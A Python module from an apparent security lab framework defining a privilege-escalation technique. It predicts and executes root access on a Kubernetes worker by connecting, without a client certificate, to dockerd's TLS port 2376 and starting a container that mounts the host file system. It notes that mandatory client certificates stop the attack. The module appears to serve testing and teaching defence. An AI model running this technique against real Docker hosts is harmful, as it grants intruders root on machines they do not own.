"""Become root on a worker through a TLS port of dockerd that asks for no client certificate.

TLS without client certificates encrypts the traffic and proves who the server is, but anybody may
connect. The attacker needs a connection to port 2376 of the worker. They start a container that
mounts the machine's files. Docker 26 opens such a port only with ``--tlsverify=false``; ``--tls``
alone now asks for certificates too. Mandatory client certificates stop it.
"""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from labkit.model import Foothold, Model, read_model
from labkit.techniques._lib.api.ask import first_refusal
from labkit.techniques._lib.stores.docker import become_root, listens_on
from labkit.techniques._lib.technique import (
    NETWORK,
    POD,
    ROOT_ON_WORKER,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict
from labkit.techniques._lib.wire.traffic import docker_asked

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

PORT = 2376
CHANNELS = f"* -> dockerd@worker1:{PORT}"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether dockerd listens with TLS and accepts callers without a certificate."""
    found = [c for c in model.open_channels(CHANNELS) if c.protocol == "https"]
    if not found:
        said = (f"{what}: {value}: {where}" for what, value, where in listens_on(model.environment))
        return Prediction(False, tuple(said))
    return first_refusal((found[0].client_authentication, ("none",)))


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Start a container that mounts the worker's file system, without a certificate."""
    verdict = become_root(lab, TECHNIQUE.name, foothold, f"tcp://worker1:{PORT}", tls=())
    if not verdict.reason.startswith("TLS alert"):
        return verdict
    channel = read_model(lab.environment).open_channels(CHANNELS)[0]
    with docker_asked(lab, channel):
        control = f"{channel.client} is served on the same port, with its certificate"
    return replace(verdict, control=control)


TECHNIQUE = Technique(
    name="docker-tls-no-client-auth",
    title="Become root on a worker through dockerd's TLS port, without a certificate",
    footholds=(NETWORK, POD, USER_ON_MASTER, USER_ON_WORKER),
    grants=(ROOT_ON_WORKER,),
    about="",
    properties=(),
    attack=("T1610", "T1611"),
    stride=("elevation of privilege",),
    cwe=("CWE-306",),
    sources=(
        "Securing communications in Kubernetes (2016), Securing the Docker endpoint",
        "https://docs.docker.com/engine/security/protect-access/",
        "https://attack.mitre.org/techniques/T1610/",
    ),
    predict=predict,
    execute=execute,
    leaves=("container",),
    settings=listens_on,
)
